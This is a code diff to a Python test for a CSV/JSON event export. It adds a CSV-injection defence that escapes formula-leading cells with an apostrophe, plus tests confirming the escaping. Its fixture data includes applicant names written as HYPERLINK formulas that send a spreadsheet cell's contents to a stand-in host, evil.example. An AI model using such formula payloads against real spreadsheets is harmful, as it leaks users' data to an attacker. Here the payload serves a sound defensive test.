@@ -60,7 +60,12 @@ def more_events(n: int) -> Iterator[Event]:
                 type=EventType.APPLICATION_SUBMITTED,
                 at=at,
                 actor="anonymous",
-                subject=f"上海港{k}号国际物流有限公司",
+                # anyone may apply under a name a spreadsheet would take for a formula
+                subject=(
+                    f'=HYPERLINK("http://evil.example/?x="&A1,"{k}")'
+                    if k % 8 == 0
+                    else f"上海港{k}号国际物流有限公司"
+                ),
                 application_id=f"app_{k:08x}",
                 details={"subject_class": "enterprise"},
             )
@@ -125,6 +130,16 @@ def stored_events(server: Server, where: str = "1", *args: Any) -> list[dict[str
     return out
 
 
+def cell(value: Any) -> Any:
+    """A CSV cell as a spreadsheet must show it: text a formula would start with (=, +,
+    -, @, tab, CR) behind an apostrophe (OWASP, "CSV Injection")."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        return "'" + value
+    return value
+
+
 def as_csv(events: list[dict[str, Any]], bom: bool = False) -> bytes:
     buf = io.StringIO(newline="")
     w = csv.writer(buf)
@@ -134,7 +149,7 @@ def as_csv(events: list[dict[str, Any]], bom: bool = False) -> bytes:
             [
                 json.dumps(ev[c], ensure_ascii=False, sort_keys=True)
                 if c == "details"
-                else ("" if ev[c] is None else ev[c])
+                else cell(ev[c])
                 for c in COLUMNS
             ]
         )
@@ -158,7 +173,12 @@ def export(server: Server, out: Path, *args: str) -> bytes:
 def test_every_event_exported_as_stored(server: Server, tmp_path: Path) -> None:
     events = stored_events(server)
     assert len(events) > ADDED > 20000
-    assert export(server, tmp_path / "csv" / "all.csv", "--format", "csv") == as_csv(events)
+    got = export(server, tmp_path / "csv" / "all.csv", "--format", "csv")
+    assert got == as_csv(events)
+    # no cell a spreadsheet would evaluate; the names are whole behind the apostrophe
+    rows = list(csv.reader(io.StringIO(got.decode(), newline="")))
+    assert not any(c[:1] in ("=", "+", "-", "@") for row in rows for c in row)
+    assert sum(row[6].startswith("'=HYPERLINK(") for row in rows) == ADDED // 8
     assert export(server, tmp_path / "json" / "all.json", "--format", "json") == as_json(events)
 
 
